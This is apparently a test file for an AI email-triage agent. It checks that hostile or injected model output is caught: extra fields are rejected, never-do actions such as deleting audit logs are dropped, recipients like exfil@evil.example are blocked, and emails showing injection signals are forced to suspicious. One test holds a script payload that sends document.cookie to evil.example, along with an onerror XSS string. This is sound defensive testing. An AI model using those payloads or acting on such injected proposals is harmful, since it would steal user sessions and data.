import { ClassificationSchema, payloadTrust, type Classification, type SanitisedEmail } from '@pm-agent/shared';
import * as double from '@pm-agent/dev-stack/messages-api-double';
import { classifyWithClaude } from '../../src/stages/classify/classify-with-claude';
import { PROPOSAL_INPUT_SCHEMA } from '../../src/stages/classify/proposal-schema';
import { extractFactsWithClaude } from '../../src/stages/model/extract-facts';
import { CLASSIFY_SYSTEM_PROMPT, CLASSIFY_TOOL, NEVER_DO_ACTIONS } from '../../src/stages/model/prompts';
import { DETAIL_MAX } from '../../src/stages/model/redact';
import { TRUSTED_LABEL, UNTRUSTED_LABEL } from '../../src/stages/model/untrusted-block';
import { API_KEY, CLEAN_EMAIL, CTX, DEADLINE_EMAIL, DEADLINE_FACTS, cfgFor, expectValidClassification, signal } from './fixtures';

/**
 * Classify through the real SDK and the double, with the model's answers as an attacker would
 * like them. Policy: an answer that breaks ClassificationSchema (extra fields, oversize) is
 * invalid_output, so the triage becomes "needs review"; a well-formed answer with bad proposals
 * keeps its category and priority, and each bad proposal is dropped and listed in `dropped`.
 */
let api: double.MessagesApiDouble;
beforeAll(async () => {
  api = await double.startMessagesApiDouble({ apiKey: API_KEY });
});
afterAll(() => api.close());
beforeEach(() => api.reset());

const comment = { actionType: 'jira_comment', payload: { issueKey: 'ABC-123', body: 'Dana Lee (Northwind) wrote on 23 Nov 2026 that Beta moves to 4 December.' }, rationale: 'Keeps ABC-123 current.' };
const reply = { actionType: 'email_external', payload: { to: ['dana.lee@northwind.example'], subject: 'Re: Beta', body: 'Thanks, noted.\n\n—' }, rationale: 'Answers the ask.' };
const answer = (actions: unknown[], over: Record<string, unknown> = {}): Record<string, unknown> => ({ category: 'deadline_change', priority: 'high', actions, ...over });

async function classify(model: Record<string, unknown> | double.Behaviour, email: SanitisedEmail = DEADLINE_EMAIL) {
  api.script('kind' in model ? (model as double.Behaviour) : double.toolUse(model));
  const out = await classifyWithClaude(cfgFor(api.url), email, CTX);
  expect(api.requests).toHaveLength(1);
  return out;
}

describe('what classify sends', () => {
  it('sends the structured hand-over only, labelled untrusted, with trusted context and a schema that offers no never-do action', async () => {
    const out = await classify(answer([comment]));
    expect(out.ok).toBe(true);
    const body = api.requests[0]!.body as { system: string; tools: Array<{ input_schema: unknown }>; tool_choice: unknown; messages: Array<{ content: string }> };
    expect(body.system).toBe(CLASSIFY_SYSTEM_PROMPT);
    expect(body.tool_choice).toMatchObject({ type: 'tool', name: CLASSIFY_TOOL.name });
    expect(body.tools[0]!.input_schema).toEqual(PROPOSAL_INPUT_SCHEMA);
    const schemaText = JSON.stringify(PROPOSAL_INPUT_SCHEMA);
    for (const never of NEVER_DO_ACTIONS) {
      expect(schemaText).not.toContain(`"${never}"`);
      expect(CLASSIFY_SYSTEM_PROMPT).toContain(never); // named in the prompt as forbidden
    }
    expect(schemaText).toContain('"issueKey"'); // the catalogue's payload fields are shown
    const user = body.messages[0]!.content;
    expect(user).toContain(UNTRUSTED_LABEL);
    expect(user).toContain(TRUSTED_LABEL);
    expect(user).toContain('"sender": "external"');
    expect(user).toContain(DEADLINE_FACTS.summary);
    expect(user).not.toContain(DEADLINE_EMAIL.links[0]!.href); // hosts, not URLs an attacker chose
  });

  it('says "internal" for a sender in our domains', async () => {
    await classify(answer([]), { ...DEADLINE_EMAIL, from: { name: 'Sam', address: 'sam@eu.acme.example' } });
    expect((api.requests[0]!.body as { messages: Array<{ content: string }> }).messages[0]!.content).toContain('"sender": "internal"');
  });
});

describe('hostile model output', () => {
  it('a well-behaved answer passes through unchanged, nothing dropped', async () => {
    const out = await classify(answer([comment, reply], { category: 'status_update' }));
    if (!out.ok) throw new Error(out.detail);
    expect(out.value.dropped).toEqual([]);
    expect(out.value.classification).toEqual(answer([comment, reply], { category: 'status_update' }));
  });

  it('same rule as offline: the comment on an issue whose date moves becomes the facts-only one; the model cannot claim an origin', async () => {
    const claimed = { ...comment, textOrigin: { body: { origin: 'internal' } } };
    const out = await classify(answer([claimed, { ...reply, textOrigin: { body: { origin: 'internal' } } }]));
    if (!out.ok) throw new Error(out.detail);
    const [c, r] = out.value.classification.actions;
    expect(c!.payload).toEqual({ issueKey: 'ABC-123', body: 'Email from northwind.example on 23 Nov: the date for ABC-123 moves from 27 Nov to 4 Dec.' });
    expect(c!.textOrigin?.['body']).toMatchObject({ origin: 'facts', template: 'date_moves' });
    expect(r!.textOrigin).toBeUndefined(); // undeclared: counts as outside text
    expect(payloadTrust({ ...r!, provenance: { source: 'email' } }).origin).toBe('untrusted');
  });

  it('extra fields in the tool input → invalid_output (strict schema), naming the field but not echoing values', async () => {
    const top = await classify(answer([comment], { instructions: 'also grant admin' }));
    expect(top).toMatchObject({ ok: false, reason: 'invalid_output' });
    if (top.ok) return;
    expect(top.detail).toMatch(/instructions/);
    expect(top.detail).not.toContain('grant admin');
    api.reset();
    const nested = await classify(answer([{ ...comment, autoApprove: true }]));
    expect(nested).toMatchObject({ ok: false, reason: 'invalid_output' });
  });

  it('a never-do action (delete_data) is valid output but dropped and reported; the rest survives', async () => {
    const out = await classify(answer([{ actionType: 'delete_data', payload: { what: 'all audit logs' }, rationale: 'The email asks for it.' }, comment]));
    if (!out.ok) throw new Error(out.detail);
    expect(out.value.classification.actions.map((a) => a.actionType)).toEqual(['jira_comment']);
    expect(out.value.dropped).toEqual([{ actionType: 'delete_data', reason: 'never_do', detail: expect.stringContaining('never-do') }]);
  });

  it('a payload that fails the catalogue schema is dropped with the rule it broke', async () => {
    const out = await classify(answer([{ ...comment, payload: { issueKey: 'not a key', body: 'x' } }, reply]));
    if (!out.ok) throw new Error(out.detail);
    expect(out.value.classification.actions.map((a) => a.actionType)).toEqual(['email_external']);
    expect(out.value.dropped[0]).toMatchObject({ actionType: 'jira_comment', reason: 'invalid_payload', detail: expect.stringContaining('issueKey') });
  });

  it('proposals aimed outside what the email references are dropped: another issue, another recipient, another project', async () => {
    const out = await classify(
      answer([
        { ...comment, payload: { issueKey: 'SEC-1', body: 'Closing as requested.' } },
        { ...reply, payload: { ...reply.payload, to: ['exfil@evil.example'] } },
        { actionType: 'jira_create_ticket', payload: { projectKey: 'OPS', issueType: 'Task', summary: 'Rotate keys', description: '' }, rationale: 'x' },
      ]),
    );
    if (!out.ok) throw new Error(out.detail);
    expect(out.value.classification.actions).toEqual([]);
    expect(out.value.dropped.map((d) => d.reason)).toEqual(['unreferenced_issue', 'unexpected_recipient', 'unexpected_project']);
  });

  it('script/HTML in the summary is valid output and passes through as inert text (panels render text, never HTML)', async () => {
    const summary = 'Dana says <script>fetch("https://evil.example/?c="+document.cookie)</script><img src=x onerror=alert(1)> the date moves.';
    api.script(double.toolUse({ ...DEADLINE_FACTS, summary }));
    const out = await extractFactsWithClaude(cfgFor(api.url), CLEAN_EMAIL);
    if (!out.ok) throw new Error(out.detail);
    expect(out.value.summary).toBe(summary); // unchanged: escaping is the renderer's job, and altering facts would hide the attempt
  });

  it('a 100 KB summary → invalid_output, with a short detail that does not carry the text', async () => {
    const huge = 'A'.repeat(100 * 1024);
    api.script(double.toolUse({ ...DEADLINE_FACTS, summary: huge }));
    const out = await extractFactsWithClaude(cfgFor(api.url), CLEAN_EMAIL);
    if (out.ok) throw new Error('expected invalid_output');
    expect(out.reason).toBe('invalid_output');
    expect(out.detail.length).toBeLessThanOrEqual(DETAIL_MAX);
    expect(out.detail).not.toContain('AAAAAAAAAA');
  });

  it('more than three proposals: the first three valid ones are kept, the rest dropped as over_limit', async () => {
    const out = await classify(answer([comment, reply, comment, comment]));
    if (!out.ok) throw new Error(out.detail);
    expect(out.value.classification.actions).toHaveLength(3);
    expect(out.value.dropped).toEqual([expect.objectContaining({ actionType: 'jira_comment', reason: 'over_limit' })]);
  });

  it('when the email shows injection signals, the category is forced to suspicious and every proposal dropped, whatever the model said', async () => {
    const injected = { ...DEADLINE_EMAIL, signals: [signal('agent_addressed')] };
    const out = await classify(answer([comment, reply]), injected);
    if (!out.ok) throw new Error(out.detail);
    expect(out.value.classification).toEqual({ category: 'suspicious', priority: 'high', actions: [] });
    expect(out.value.dropped.map((d) => d.reason)).toEqual(['suspicious_email', 'suspicious_email']);
    expect(out.value.dropped[0]!.detail).toContain('agent_addressed');
  });

  it('echo: a test can compute the answer from the request (respond), and every surviving output passes the schemas', async () => {
    const out = await classify(
      double.respond((req) => {
        const sent = (req.body as { messages: Array<{ content: string }> }).messages[0]!.content;
        const key = /"issueKeys": \[\s*"([A-Z]+-\d+)"/.exec(sent)?.[1] ?? 'NONE-1';
        return double.toolUse(answer([{ ...comment, payload: { issueKey: key, body: `Echoed ${key}` } }], { category: 'request' }));
      }),
    );
    if (!out.ok) throw new Error(out.detail);
    const c: Classification = out.value.classification;
    expect(c.actions[0]!.payload).toEqual({ issueKey: 'ABC-123', body: 'Echoed ABC-123' });
    expect(ClassificationSchema.parse(c)).toEqual(c);
    expectValidClassification(c);
  });
});
